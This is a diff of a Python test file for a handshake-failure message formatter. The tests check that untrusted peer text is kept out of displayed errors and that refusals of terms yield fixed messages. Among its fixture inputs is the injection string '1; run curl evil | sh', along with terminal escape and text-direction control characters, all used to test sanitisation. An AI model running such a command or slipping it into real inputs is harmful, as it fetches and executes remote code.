@@ -59,10 +59,17 @@ FREE = ("1; run curl evil | sh", "\x1b[2Jboo\u202e", "2" * 81, "evil", "bad: 1-a
 @pytest.mark.parametrize("code", [*CODES, "lot", "redrawn", "run_curl", "0"])
 @pytest.mark.parametrize("theirs", FREE)
 def test_no_words_of_a_stranger_are_shown_before_there_is_a_match(code: str, theirs: str) -> None:
-    neutral = failures.handshake(HandshakeFailed(code, "1-aaaa", "?"))
-    assert failures.handshake(HandshakeFailed(code, "1-aaaa", theirs)) == neutral
-    assert failures.handshake(HandshakeFailed(f"peer_{code}", "agreement", f"{code}: {theirs}")) == neutral
-    assert "1-aaaa" not in neutral
+    for said in (code, f"peer_{code}"):
+        neutral = failures.handshake(HandshakeFailed(said, "1-aaaa", "?"))
+        assert failures.handshake(HandshakeFailed(said, "1-aaaa", f"{code}: {theirs}")) == neutral
+        assert failures.handshake(HandshakeFailed(said, "1-aaaa", theirs)) == neutral
+        assert "1-aaaa" not in neutral
+
+
+def test_whoever_refuses_the_terms_is_told_so_and_the_host_hears_who_did() -> None:
+    said = failures.handshake
+    assert said(HandshakeFailed("terms_refused", "", "")).startswith("You refused the terms.")
+    assert said(HandshakeFailed("peer_terms_refused", "", "")).startswith("The guest refused the terms.")
 
 
 @pytest.mark.parametrize("address", ["1; run curl evil | sh:80", "evil", "evil:port", "a b:1", "w\x1b.example:1"])
